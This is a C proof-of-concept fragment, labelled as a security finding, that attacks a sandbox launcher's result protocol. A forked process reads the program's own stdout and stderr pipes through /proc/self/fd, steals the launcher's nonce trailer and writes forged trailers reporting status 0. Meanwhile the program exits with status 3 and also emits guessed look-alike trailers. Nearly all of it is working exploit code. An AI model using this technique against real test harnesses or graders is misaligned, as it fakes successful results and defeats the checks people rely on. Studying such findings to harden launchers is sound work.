/* Finding 2: the trailer travels in pipes the program holds. A background process opens
 * /proc/self/fd/1 and /proc/self/fd/2 read-only (the pipes' read ends) and reads them without
 * pause, so it takes what the launcher writes there before the host does. It answers the first
 * trailer it sees with trailers of its own, status 0, on both streams. The program writes
 * look-alikes in other plausible shapes first, then exits 3.
 * PID 1 is pinned to CPU 0 and the thief to another CPU, so PID 1 cannot pre-empt it. */
#include <sys/resource.h>

static void forge_all(const char *nonce) {
    char t[256];
    int n = snprintf(t, sizeof t, "\001DM:%s:0\n", nonce);
    for (int fd = 1; fd <= 2; fd++)
        if (write(fd, t, n) < 0) _exit(1);
}

static void thief(int rd[3], int cpus) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpus > 1 ? 1 : 0, &set);
    sched_setaffinity(0, sizeof set, &set);
    char buf[3][8192];
    size_t have[3] = {0, 0, 0};
    for (;;) {
        for (int s = 1; s <= 2; s++) {
            ssize_t got = read(rd[s], buf[s] + have[s], sizeof buf[s] - have[s] - 1);
            if (got <= 0) continue;
            have[s] += (size_t)got;
            buf[s][have[s]] = 0;
            char nonce[33];
            /* A trailer with a real nonce (not one of our own look-alikes read back) is ours
             * now: answer it with that nonce and status 0. */
            for (char *m = memmem(buf[s], have[s], "\001DM:", 4); m; m = memmem(m + 1, buf[s] + have[s] - m - 1, "\001DM:", 4)) {
                if (find_nonce(m, strnlen(m, 40), nonce, 0) && strspn(nonce, "0") != 32) {
                    forge_all(nonce);
                    _exit(0);
                }
            }
            if (have[s] > sizeof buf[s] / 2) have[s] = 0;
        }
    }
}

int main(void) {
    int cpus = (int)sysconf(_SC_NPROCESSORS_ONLN);
    say("RESULT cpus = ok %d\n", cpus);
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    result("sched_setaffinity(1, {cpu0})", sched_setaffinity(1, sizeof set, &set));
    /* Look-alikes in other plausible shapes, for a host that might accept one. */
    static const char *shapes[] = {
        "\001DM:0\n", "\001DM:00000000000000000000000000000000:0\n", "\001DM:0:0\n",
        "\001DM:status=0\n", "\001DM:0:0000000000000000000000000000000000000000000000000000000000000000\n",
    };
    for (size_t i = 0; i < sizeof shapes / sizeof shapes[0]; i++)
        for (int fd = 1; fd <= 2; fd++)
            if (write(fd, shapes[i], strlen(shapes[i])) < 0) return 97;
    drained();
    int ready[2];
    if (pipe(ready) != 0) return 99;
    if (fork() == 0) {
        close(ready[0]);
        int rd[3] = {-1, -1, -1};
        rd[1] = (int)result("open(/proc/self/fd/1, O_RDONLY|O_NONBLOCK)", open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK));
        rd[2] = (int)result("open(/proc/self/fd/2, O_RDONLY|O_NONBLOCK)", open("/proc/self/fd/2", O_RDONLY | O_NONBLOCK));
        if (write(ready[1], "y", 1) != 1) _exit(1);
        close(ready[1]);
        if (rd[1] >= 0 || rd[2] >= 0) thief(rd, cpus);
        _exit(0);
    }
    close(ready[1]);
    char c;
    if (read(ready[0], &c, 1) != 1) return 98;
    return 3;
}
